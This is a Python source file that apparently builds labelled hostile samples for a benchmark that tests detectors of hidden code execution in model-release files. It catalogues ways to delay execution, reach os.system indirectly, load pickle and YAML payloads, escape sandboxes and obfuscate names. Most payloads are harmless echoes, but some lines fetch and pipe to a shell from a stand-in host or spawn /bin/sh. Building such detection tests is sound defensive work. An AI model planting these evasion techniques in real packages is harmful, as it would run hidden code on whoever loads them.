"""Python source that hides when it acts, what it calls, or what it takes and sends.

Payloads are harmless: they name hosts that do not exist and commands that print.
"""

# ruff: noqa: E501 # sources stand as people write them
from __future__ import annotations

from typing import TYPE_CHECKING

from benchmarks.detection.families import (
    code_evading_honest,
    code_evading_more,
    code_evading_sends,
    code_trusting,
)
from benchmarks.detection.families.code_python import CONFIG, MODEL
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

FAMILY = "code-evading"

# When it acts.
MOMENTS: dict[str, tuple[str, str]] = {
    "module-getattr": (
        "names that the module is asked for",
        "import os\n\ndef __getattr__(name):\n    os.system('echo assay')\n",
    ),
    "set-name": (
        "__set_name__ of a descriptor",
        (
            "import os\n\nclass Field:\n    def __set_name__(self, owner, name):\n"
            "        os.system('echo assay')\n\nclass Holder:\n    size = Field()\n"
        ),
    ),
    "prepare": (
        "__prepare__ of a metaclass",
        (
            "import os\n\nclass Meta(type):\n    @classmethod\n"
            "    def __prepare__(meta, name, bases):\n        os.system('echo assay')\n"
            "        return {}\n\nclass Base(metaclass=Meta):\n    pass\n"
        ),
    ),
    "metaclass-function": (
        "a function as a metaclass",
        (
            "import os\n\ndef make(name, bases, body):\n    os.system('echo assay')\n"
            "    return type(name, bases, body)\n\nclass Base(metaclass=make):\n    pass\n"
        ),
    ),
    "mro-entries": (
        "__mro_entries__ of a base",
        (
            "import os\n\nclass Odd:\n    def __mro_entries__(self, bases):\n"
            "        os.system('echo assay')\n        return ()\n\nclass Base(Odd()):\n    pass\n"
        ),
    ),
    "type-call": (
        "a class made by type()",
        (
            "import os\nKind = type('Kind', (), {'__init__': lambda self: os.system('echo assay')})\n"
            "Kind()\n"
        ),
    ),
    "property-read": (
        "a property that is read",
        (
            "import os\n\nclass Lazy:\n    @property\n    def size(self):\n"
            "        return os.system('echo assay')\n\nSIZE = Lazy().size\n"
        ),
    ),
    "descriptor-get": (
        "__get__ of a descriptor",
        (
            "import os\n\nclass Lazy:\n    def __get__(self, instance, owner):\n"
            "        return os.system('echo assay')\n\nclass Holder:\n    size = Lazy()\n\nHolder.size\n"
        ),
    ),
    "operator-method": (
        "an operator of a class",
        (
            "import os\n\nclass Path:\n    def __truediv__(self, other):\n"
            "        os.system(other)\n\nPath() / 'echo assay'\n"
        ),
    ),
    "context-manager": (
        "a context that is entered",
        (
            "import contextlib, os\n\n@contextlib.contextmanager\ndef quiet():\n"
            "    os.system('echo assay')\n    yield\n\nwith quiet():\n    pass\n"
        ),
    ),
    "context-exit": (
        "a context that is left",
        (
            "import os\n\nclass Quiet:\n    def __enter__(self):\n        return self\n"
            "    def __exit__(self, *given):\n        os.system('echo assay')\n\n"
            "with Quiet():\n    pass\n"
        ),
    ),
    "iterator": (
        "a loop over an iterator",
        (
            "import os\n\nclass Steps:\n    def __iter__(self):\n        return self\n"
            "    def __next__(self):\n        os.system('echo assay')\n        raise StopIteration\n\n"
            "for _ in Steps():\n    pass\n"
        ),
    ),
    "generator": (
        "a generator that is drained",
        (
            "import os\n\ndef steps():\n    yield os.system('echo assay')\n\n"
            "for _ in steps():\n    pass\n"
        ),
    ),
    "match-class": (
        "a case that matches",
        (
            "import os\nmatch {'kind': os, 'word': 'echo assay'}:\n"
            "    case {'kind': tool, 'word': word}:\n        tool.system(word)\n"
        ),
    ),
    "match-capture": (
        "a name that a case captures",
        "import os\nmatch os:\n    case tool:\n        tool.system('echo assay')\n",
    ),
    "try-finally": (
        "what is done in the end",
        "import os\ntry:\n    raise ValueError\nexcept ValueError:\n    os.system('echo assay')\n",
    ),
    "exception-text": (
        "the text of an exception",
        (
            "import os\ntry:\n    raise ValueError('echo assay')\n"
            "except ValueError as error:\n    os.system(error.args[0])\n"
        ),
    ),
    "excepthook": (
        "a hook for errors",
        (
            "import os, sys\n\ndef hook(*given):\n    os.system('echo assay')\n\n"
            "sys.excepthook = hook\n"
        ),
    ),
    "displayhook": (
        "a hook for what is shown",
        "import os, sys\nsys.displayhook = lambda value: os.system('echo assay')\n",
    ),
    "audit-hook": (
        "a hook for audits",
        "import os, sys\nsys.addaudithook(lambda *given: os.system('echo assay'))\n",
    ),
    "signal-alarm": (
        "a signal",
        (
            "import os, signal\n\ndef ring(*given):\n    os.system('echo assay')\n\n"
            "signal.signal(signal.SIGALRM, ring)\nsignal.alarm(1)\n"
        ),
    ),
    "timer": (
        "a timer",
        (
            "import os, threading\n\ndef work():\n    os.system('echo assay')\n\n"
            "threading.Timer(30, work).start()\n"
        ),
    ),
    "thread-subclass": (
        "a class of threads",
        (
            "import os, threading\n\nclass Worker(threading.Thread):\n    def run(self):\n"
            "        os.system('echo assay')\n\nWorker().start()\n"
        ),
    ),
    "pool-submit": (
        "a pool of threads",
        (
            "import os\nfrom concurrent.futures import ThreadPoolExecutor\n\ndef work():\n"
            "    os.system('echo assay')\n\nwith ThreadPoolExecutor() as pool:\n    pool.submit(work)\n"
        ),
    ),
    "pool-map": (
        "a pool that maps",
        (
            "import os, multiprocessing\n\ndef work(word):\n    os.system(word)\n\n"
            "multiprocessing.Pool(1).map(work, ['echo assay'])\n"
        ),
    ),
    "process-target": (
        "a process of Python's own",
        (
            "import os, multiprocessing as mp\n\ndef work():\n    os.system('echo assay')\n\n"
            "mp.Process(target=work).start()\n"
        ),
    ),
    "event-loop": (
        "a loop of events",
        (
            "import asyncio, os\n\nasync def go():\n    os.system('echo assay')\n\n"
            "loop = asyncio.new_event_loop()\nloop.run_until_complete(go())\n"
        ),
    ),
    "call-later": (
        "a loop that calls later",
        (
            "import asyncio, os\n\ndef go():\n    os.system('echo assay')\n\n"
            "asyncio.get_event_loop().call_later(5, go)\n"
        ),
    ),
    "atexit-decorator": (
        "a decorator that registers",
        "import atexit, os\n\n@atexit.register\ndef last():\n    os.system('echo assay')\n",
    ),
    "finalizer": (
        "a finalizer",
        (
            "import os, weakref\n\nclass Holder:\n    pass\n\nholder = Holder()\n"
            "weakref.finalize(holder, os.system, 'echo assay')\n"
        ),
    ),
    "deleted-object": (
        "__del__ of an object",
        (
            "import os\n\nclass Holder:\n    def __del__(self):\n        os.system('echo assay')\n\n"
            "holder = Holder()\ndel holder\n"
        ),
    ),
    "register-hook": (
        "a hook of torch's modules",
        (
            "import os\nimport torch\n\ndef hook(*given):\n    os.system('echo assay')\n\n"
            "torch.nn.modules.module.register_module_forward_hook(hook)\n"
        ),
    ),
    "patched-library": (
        "a function of a library exchanged",
        (
            "import os\nimport transformers\n\ndef load(*given, **named):\n"
            "    os.system('echo assay')\n\ntransformers.AutoTokenizer.from_pretrained = load\n"
        ),
    ),
    "patched-setattr": (
        "setattr on a library",
        (
            "import os\nimport torch\n\ndef load(*given, **named):\n    os.system('echo assay')\n\n"
            "setattr(torch, 'load', load)\n"
        ),
    ),
    "patched-builtin": (
        "a builtin exchanged",
        (
            "import builtins, os\n_open = builtins.open\n\ndef opened(*given):\n"
            "    os.system('echo assay')\n    return _open(*given)\n\nbuiltins.open = opened\n"
        ),
    ),
    "cached": (
        "functools.cache around a call",
        (
            "import functools, os\n\n@functools.cache\ndef size():\n    return os.system('echo assay')\n\n"
            "SIZE = size()\n"
        ),
    ),
    "wrapped-decorator": (
        "a decorator with arguments",
        (
            "import os\n\ndef register(name):\n    def wrap(function):\n        function(name)\n"
            "        return function\n    return wrap\n\n@register('echo assay')\n"
            "def check(word):\n    os.system(word)\n"
        ),
    ),
    "class-decorator": (
        "a decorator that makes an object",
        (
            "import os\n\nclass Register:\n    def __init__(self, function):\n        function()\n\n"
            "@Register\ndef check():\n    os.system('echo assay')\n"
        ),
    ),
    "reduce-calls": (
        "functools.reduce",
        "import functools, os\nfunctools.reduce(lambda a, b: os.system(b), ['', 'echo assay'])\n",
    ),
    "sorted-key": (
        "the key of a sort",
        "import os\nsorted(['echo assay'], key=os.system)\n",
    ),
    "list-sort-key": (
        "the key of a list's sort",
        "import os\nwords = ['echo assay']\nwords.sort(key=os.system)\n",
    ),
    "default-factory": (
        "the factory of a dictionary",
        (
            "import collections, os\n\ndef make():\n    return os.system('echo assay')\n\n"
            "table = collections.defaultdict(make)\ntable['x']\n"
        ),
    ),
    "dataclass-field": (
        "the factory of a field",
        (
            "import dataclasses, os\n\ndef make():\n    return os.system('echo assay')\n\n"
            "@dataclasses.dataclass\nclass Settings:\n    size: int = dataclasses.field(default_factory=make)\n\n"
            "Settings()\n"
        ),
    ),
    "enum-missing": (
        "_missing_ of an enumeration",
        (
            "import enum, os\n\nclass Kind(enum.Enum):\n    A = 1\n    @classmethod\n"
            "    def _missing_(cls, value):\n        os.system('echo assay')\n        return cls.A\n\nKind(2)\n"
        ),
    ),
    "json-hook": (
        "a hook of json",
        (
            "import json, os\n\ndef hook(pairs):\n    return os.system(pairs['c'])\n\n"
            'json.loads(\'{"c": "echo assay"}\', object_hook=hook)\n'
        ),
    ),
    "regex-callback": (
        "the function of a replacement",
        "import os, re\nre.sub('.+', lambda found: str(os.system(found[0])), 'echo assay')\n",
    ),
    "import-hook": (
        "a finder for imports",
        (
            "import os, sys\n\nclass Finder:\n    def find_spec(self, *given):\n"
            "        os.system('echo assay')\n\nsys.meta_path.insert(0, Finder())\n"
        ),
    ),
    "conditional-platform": (
        "on one platform only",
        "import os, sys\nif sys.platform.startswith('linux'):\n    os.system('echo assay')\n",
    ),
    "conditional-date": (
        "after a date",
        (
            "import datetime, os\nif datetime.date.today() > datetime.date(2027, 1, 1):\n"
            "    os.system('echo assay')\n"
        ),
    ),
    "else-of-main": (
        "where it is not the program",
        "import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system('echo assay')\n",
    ),
    "not-main": (
        "where the name is another",
        "import os\nif __name__ != '__main__':\n    os.system('echo assay')\n",
    ),
    "main-or-true": (
        "a condition that only looks like it",
        "import os\nif __name__ == '__main__' or True:\n    os.system('echo assay')\n",
    ),
}

# What it calls.
CALLS: dict[str, tuple[str, str]] = {
    "dictionary-of-functions": (
        "a table of functions",
        "import os\nTABLE = {'a': print, 'b': os.system}\nTABLE['b']('echo assay')\n",
    ),
    "dictionary-get": (
        "get() of a table",
        "import os\nTABLE = {'b': os.system}\nTABLE.get('b', print)('echo assay')\n",
    ),
    "list-of-functions": (
        "a list of functions",
        "import os\n[print, os.system][1]('echo assay')\n",
    ),
    "named-tuple": (
        "a namespace of functions",
        (
            "import os, types\ntool = types.SimpleNamespace(run=os.system)\n"
            "tool.run('echo assay')\n"
        ),
    ),
    "attribute-chain": (
        "os by way of another module",
        "import logging\nlogging.os.system('echo assay')\n",
    ),
    "attribute-chain-sys": (
        "sys by way of another module",
        "import warnings\nwarnings.sys.modules['os'].system('echo assay')\n",
    ),
    "torch-os": (
        "os by way of torch",
        "import torch\ntorch.serialization.os.popen('echo assay')\n",
    ),
    "subprocess-alias-deep": (
        "subprocess by way of a library",
        "import torch.utils.collect_env as tools\ntools.subprocess.run(['echo', 'assay'])\n",
    ),
    "class-attribute": (
        "an attribute of a class",
        "import os\n\nclass Tool:\n    run = os.system\n\nTool.run('echo assay')\n",
    ),
    "instance-attribute": (
        "an attribute of an object",
        (
            "import os\n\nclass Tool:\n    def __init__(self):\n        self.run = os.system\n\n"
            "Tool().run('echo assay')\n"
        ),
    ),
    "setattr-alias": (
        "an attribute that is set by name",
        (
            "import os\n\nclass Tool:\n    pass\n\nsetattr(Tool, 'run', os.system)\n"
            "Tool.run('echo assay')\n"
        ),
    ),
    "globals-alias": (
        "a global that is set by name",
        "import os\nglobals()['run'] = os.system\nrun('echo assay')\n",
    ),
    "returned-function": (
        "a function that gives a function",
        "import os\n\ndef tool():\n    return os.system\n\ntool()('echo assay')\n",
    ),
    "getattr-default": (
        "getattr with a default",
        "import os\ngetattr(os, 'none', os.system)('echo assay')\n",
    ),
    "getattr-loop": (
        "getattr in a loop",
        (
            "import os\ntool = os\nfor name in ['system']:\n    tool = getattr(tool, name)\n"
            "tool('echo assay')\n"
        ),
    ),
    "getattr-dunder": (
        "__getattribute__ of a module",
        "import os\nos.__getattribute__('system')('echo assay')\n",
    ),
    "object-getattribute": (
        "object.__getattribute__",
        "import os\nobject.__getattribute__(os, 'system')('echo assay')\n",
    ),
    "dict-get": (
        "get() of a module's dictionary",
        "import os\nos.__dict__.get('system')('echo assay')\n",
    ),
    "dir-index": (
        "a name found among all",
        (
            "import os\nname = [n for n in dir(os) if n.startswith('sys')][0]\n"
            "getattr(os, name)('echo assay')\n"
        ),
    ),
    "inspect-members": (
        "members of a module",
        "import inspect, os\ndict(inspect.getmembers(os))['system']('echo assay')\n",
    ),
    "dunder-call": (
        "__call__ of a function",
        "import os\nos.system.__call__('echo assay')\n",
    ),
    "star-arguments": (
        "arguments from a list",
        "import subprocess\nsubprocess.run(*[['echo', 'assay']])\n",
    ),
    "import-as-keyword": (
        "__import__ with keywords",
        "__import__(name='os').system('echo assay')\n",
    ),
    "importlib-util": (
        "a module from its spec",
        (
            "import importlib.util\nspec = importlib.util.find_spec('os')\n"
            "tool = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(tool)\n"
            "tool.system('echo assay')\n"
        ),
    ),
    "source-loader": (
        "a loader of sources",
        (
            "import importlib.machinery\n"
            "importlib.machinery.SourceFileLoader('x', 'weights.bin').load_module()\n"
        ),
    ),
    "zipimport": (
        "a module from an archive",
        "import zipimport\nzipimport.zipimporter('model.zip').load_module('payload')\n",
    ),
    "sys-path-archive": (
        "an archive on the path",
        "import sys\nsys.path.insert(0, 'model.zip')\nimport payload\n",
    ),
    "site-directory": (
        "a directory with .pth files",
        "import site\nsite.addsitedir('/tmp/assay')\n",
    ),
    "pkgutil-resolve": (
        "a name that pkgutil resolves",
        "import pkgutil\npkgutil.resolve_name('os:system')('echo assay')\n",
    ),
    "pydoc-locate": (
        "a name that pydoc locates",
        "import pydoc\npydoc.locate('os.system')('echo assay')\n",
    ),
    "function-type": (
        "a function made of code",
        (
            "import types\ncode = compile('print(1)', 'x', 'exec')\n"
            "types.FunctionType(code, globals())()\n"
        ),
    ),
    "type-of-function": (
        "the type of a function",
        "code = compile('print(1)', 'x', 'exec')\ntype(lambda: 0)(code, globals())()\n",
    ),
    "code-replace": (
        "the code of a function exchanged",
        (
            "def plain():\n    return 1\n\nplain.__code__ = compile('print(1)', 'x', 'exec')\nplain()\n"
        ),
    ),
    "codeop": (
        "codeop",
        "import codeop\nexec(codeop.compile_command('print(1)'))\n",
    ),
    "interactive": (
        "an interpreter of its own",
        (
            "import code\ncode.InteractiveInterpreter().runsource(\"import os; os.system('echo assay')\")\n"
        ),
    ),
    "runpy-module": (
        "runs a module",
        "import runpy\nrunpy.run_module('antigravity')\n",
    ),
    "ctypes-pythonapi": (
        "Python's own library",
        "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b\"import os; os.system('echo assay')\")\n",
    ),
    "ctypes-util": (
        "a library that is found",
        "import ctypes, ctypes.util\nctypes.cdll.LoadLibrary(ctypes.util.find_library('c')).system(b'echo assay')\n",
    ),
    "ctypes-attribute": (
        "a library as an attribute",
        "import ctypes\nctypes.cdll['libc.so.6'].system(b'echo assay')\n",
    ),
    "cffi": (
        "cffi",
        (
            "from cffi import FFI\nffi = FFI()\nffi.cdef('int system(const char *);')\n"
            "ffi.dlopen(None).system(b'echo assay')\n"
        ),
    ),
    "pty-spawn": ("a terminal", "import pty\npty.spawn('/bin/sh')\n"),
    "posix": ("the module behind os", "import posix\nposix.system('echo assay')\n"),
    "posix-subprocess": (
        "the module behind subprocess",
        (
            "import _posixsubprocess, os\n"
            "_posixsubprocess.fork_exec([b'/bin/echo'], [b'/bin/echo'], True, (), None, None, -1, -1, -1, -1, -1, -1, 1, 2, False, False, 0, None, None, None, -1, None, False)\n"
        ),
    ),
    "exec-async": (
        "a process by way of asyncio",
        (
            "import asyncio\n\nasync def go():\n"
            "    await asyncio.create_subprocess_exec('echo', 'assay')\n\n"
            "asyncio.get_event_loop().run_until_complete(go())\n"
        ),
    ),
    "torch-multiprocessing": (
        "processes of torch",
        (
            "import os\nimport torch.multiprocessing as mp\n\ndef work(rank):\n"
            "    os.system('echo assay')\n\nmp.spawn(work, nprocs=1)\n"
        ),
    ),
    "string-getoutput": (
        "the output of a command",
        "from subprocess import getoutput as shape\nshape('echo assay')\n",
    ),
    "pandas-eval": (
        "pandas that runs text",
        "import pandas as pd\npd.eval(\"@__import__('os').system('echo assay')\")\n",
    ),
    "sympy": (
        "sympy that runs text",
        "import sympy\nsympy.sympify(\"__import__('os').system('echo assay')\")\n",
    ),
    "numpy-f2py": (
        "a compiler of numpy",
        "import numpy.f2py\nnumpy.f2py.compile('end', extra_args='--version')\n",
    ),
    "template-code": (
        "Jinja that walks",
        (
            "from jinja2 import Template\n"
            "Template(\"{{ ''.__class__.__mro__[1].__subclasses__() }}\").render()\n"
        ),
    ),
    "pickle-literal-bytes": (
        "a pickle in bytes",
        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'echo assay'\\ntR.\")\n",
    ),
    "pickle-io": (
        "a pickle in a stream",
        "import io, pickle\npickle.Unpickler(io.BytesIO(b\"cos\\nsystem\\n(S'echo assay'\\ntR.\")).load()\n",
    ),
    "torch-load-literal": (
        "a checkpoint in bytes",
        (
            "import base64, io, torch\n"
            "torch.load(io.BytesIO(base64.b64decode('Y29zCnN5c3RlbQooUydlY2hvIGFzc2F5Jwp0Ui4=')), weights_only=False)\n"
        ),
    ),
    "pickle-downloaded": (
        "a pickle from a stranger",
        (
            "import pickle, urllib.request\n"
            "TABLE = pickle.loads(urllib.request.urlopen('https://assay.invalid/t.pkl').read())\n"
        ),
    ),
    "yaml-apply": (
        "a tag that calls",
        "import yaml\nyaml.load(\"!!python/object/apply:os.system ['echo assay']\", Loader=yaml.Loader)\n",
    ),
    "exec-file": (
        "a file of the release that is run",
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'weights.txt')).read())\n",
    ),
    "exec-docstring": (
        "a docstring that is run",
        'def note():\n    """__import__(\'os\').system(\'echo assay\')"""\n\nexec(note.__doc__)\n',
    ),
    "exec-config": (
        "a configuration that is run",
        "import json\neval(json.load(open('config.json'))['activation'])\n",
    ),
    "exec-methods": (
        "exec by way of its own name",
        "import builtins\ngetattr(builtins, 'ex' + 'ec')('print(1)')\n",
    ),
    "exec-alias": (
        "exec under another name",
        "run = exec\nrun('print(1)')\n",
    ),
    "eval-map": (
        "eval handed to map",
        "list(map(eval, [\"__import__('os').system('echo assay')\"]))\n",
    ),
    "exec-dictionary": (
        "exec out of a dictionary",
        "__builtins__.__dict__['exec']('print(1)')\n",
    ),
    "self-walk": (
        "builtins by way of a function",
        "print.__self__.exec('print(1)')\n",
    ),
    "loader-walk": (
        "modules by way of a loader",
        "__loader__.load_module('os').system('echo assay')\n",
    ),
    "spec-walk": (
        "modules by way of a spec",
        "__spec__.loader.load_module('posix').system('echo assay')\n",
    ),
    "builtin-importer": (
        "an importer found among classes",
        (
            "kinds = {k.__name__: k for k in object.__subclasses__()}\n"
            "kinds['BuiltinImporter'].load_module('posix').system('echo assay')\n"
        ),
    ),
    "frame-walk": (
        "modules by way of a frame",
        "import sys\nsys._getframe().f_builtins['exec']('print(1)')\n",
    ),
    "global-walk": (
        "modules by way of a function's globals",
        "import random\nrandom.shuffle.__func__.__globals__['_os'].system('echo assay')\n",
    ),
    "warnings-walk": (
        "the well-known walk",
        (
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'catch_warnings'][0]()"
            "._module.__builtins__['__import__']('os').system('echo assay')\n"
        ),
    ),
}

# How names and texts are put together.
TEXTS: dict[str, tuple[str, str]] = {
    "translate": (
        "str.translate",
        (
            "import os\nname = 'tztufn'.translate({ord('t'): 's', ord('z'): 'y', ord('u'): 't', ord('f'): 'e', ord('n'): 'm'})\n"
            "getattr(os, name)('echo assay')\n"
        ),
    ),
    "maketrans": (
        "str.maketrans",
        "import os\ngetattr(os, 'abacde'.translate(str.maketrans('abcde', 'sytem')))('echo assay')\n",
    ),
    "xor-loop": (
        "a loop of exclusive or",
        (
            "import os\ndata = [112, 122, 112, 119, 102, 110]\nname = ''\nfor c in data:\n"
            "    name += chr(c ^ 3)\ngetattr(os, name)('echo assay')\n"
        ),
    ),
    "xor-loop-exec": (
        "a loop of exclusive or that is run",
        (
            "data = bytes([115, 113, 106, 109, 119])\nout = bytearray()\nfor c in data:\n"
            "    out.append(c ^ 3)\nexec(out.decode())\n"
        ),
    ),
    "format-characters": (
        "a format of characters",
        "import os\ngetattr(os, '%c%c%c%c%c%c' % (115, 121, 115, 116, 101, 109))('echo assay')\n",
    ),
    "format-pieces": (
        "format with names",
        "import os\ngetattr(os, '{a}{b}'.format(a='sys', b='tem'))('echo assay')\n",
    ),
    "f-string-pieces": (
        "an f-string",
        "import os\na, b = 'sys', 'tem'\ngetattr(os, f'{a}{b}')('echo assay')\n",
    ),
    "base85": (
        "Base85",
        (
            "import base64\nexec(base64.b85decode('aAatCX>MmAV{dJ3VQyqDAVqE=b09<^Z*FucI5{9>X>MmA'))\n"
        ),
    ),
    "ascii85-zlib": (
        "ASCII85 and zlib in a lambda",
        (
            "import base64, zlib\nopen_ = lambda s: zlib.decompress(base64.a85decode(s))\n"
            "exec(open_('GhVQ/0KJP'))\n"
        ),
    ),
    "hex-decode-codec": (
        "codecs in hexadecimal",
        "import codecs\nexec(codecs.decode('7072696e74283129', 'hex'))\n",
    ),
    "int-to-bytes": (
        "a number that is text",
        "n = 8104636957785917993\nexec(n.to_bytes(8, 'big').decode())\n",
    ),
    "struct-pack": (
        "packed numbers",
        "import struct\nexec(struct.pack('>Q', 8104636957785917993).decode())\n",
    ),
    "array-bytes": (
        "an array of numbers",
        "import array\nexec(array.array('B', [112, 114, 105, 110, 116, 40, 49, 41]).tobytes())\n",
    ),
    "numpy-bytes": (
        "a tensor of numbers",
        "import torch\nexec(bytes(torch.tensor([112, 114, 105, 110, 116, 40, 49, 41]).tolist()))\n",
    ),
    "weights-bytes": (
        "bytes out of weights",
        (
            "from safetensors.torch import load_file\n"
            "exec(bytes(load_file('model.safetensors')['head'].tolist()).decode())\n"
        ),
    ),
    "reversed-join": (
        "letters backwards",
        "import os\ngetattr(os, ''.join(reversed('metsys')))('echo assay')\n",
    ),
    "slices": (
        "every second letter",
        "import os\ngetattr(os, 'sxyxsxtxexmx'[::2])('echo assay')\n",
    ),
    "sum-of-lists": (
        "letters out of other texts",
        "import os\nw = 'the mystery sets'\ngetattr(os, w[6] + w[5] + w[6] + w[7] + w[8] + w[4])('echo assay')\n",
    ),
    "docstring-letters": (
        "letters out of documentation",
        "import os\nd = os.__doc__\ngetattr(os, d[0] + d[1] + d[2])('echo assay')\n",
    ),
    "quote-plus": (
        "an address decoded",
        "import urllib.parse as u\nexec(u.unquote_plus('print%281%29'))\n",
    ),
    "quopri": (
        "quoted printable",
        "import quopri\nexec(quopri.decodestring('print=281=29'))\n",
    ),
    "uu": (
        "uuencoded",
        "import binascii\nexec(binascii.a2b_uu('(<')R:6YT*#$I'.replace(\"'\", 'R')))\n",
    ),
    "ast-literal": (
        "a text inside a text",
        "import ast\nexec(ast.literal_eval(\"'print(1)'\"))\n",
    ),
    "json-text": (
        "a text inside JSON",
        "import json\nexec(json.loads('{\"a\": \"print(1)\"}')['a'])\n",
    ),
    "encoding-cookie": (
        "a source in turned letters",
        "# nothing\nimport codecs\nexec(codecs.getdecoder('rot13')('cevag(1)')[0])\n",
    ),
    "aes": (
        "a cipher",
        (
            "from cryptography.fernet import Fernet\nKEY = b'x' * 44\n"
            "exec(Fernet(KEY).decrypt(b'gAAAAABf').decode())\n"
        ),
    ),
    "command-pieces": (
        "a command in pieces",
        "import os\nos.popen(''.join(['cu', 'rl http://assay.invalid', ' | s', 'h']))\n",
    ),
    "command-environment": (
        "a command out of the environment",
        "import os\nos.system(os.environ.get('ASSAY', 'echo assay'))\n",
    ),
    "shell-variables": (
        "a shell that puts words together",
        "import subprocess\nsubprocess.call('a=ec;b=ho;$a$b assay', shell=True)\n",
    ),
}


def _hostile(name: str, technique: str, source: str) -> Sample:
    return Sample(
        name=name,
        family=FAMILY,
        technique=technique,
        truth=Truth.HOSTILE,
        files={
            "modeling_example.py": (
                source + MODEL.format(init="        pass", forward="        pass")
            ).encode(),
            "config.json": CONFIG,
        },
    )


def samples() -> Iterator[Sample]:
    """Give hostile sources by technique, and honest ones that look alike."""
    for table in (MOMENTS, CALLS, TEXTS):
        for name, (technique, source) in table.items():
            yield _hostile(name, technique, source)
    for name, (technique, source) in code_evading_sends.SENDS.items():
        yield _hostile(name, technique, source)
    for name, source in code_evading_more.MORE.items():
        yield _hostile(f"more-{name}", name.replace("-", " "), source)
    for name, technique, truth, files in code_trusting.cases():
        yield Sample(
            name=name, family=FAMILY, technique=technique, truth=truth, files=files
        )
    yield from code_evading_honest.samples()
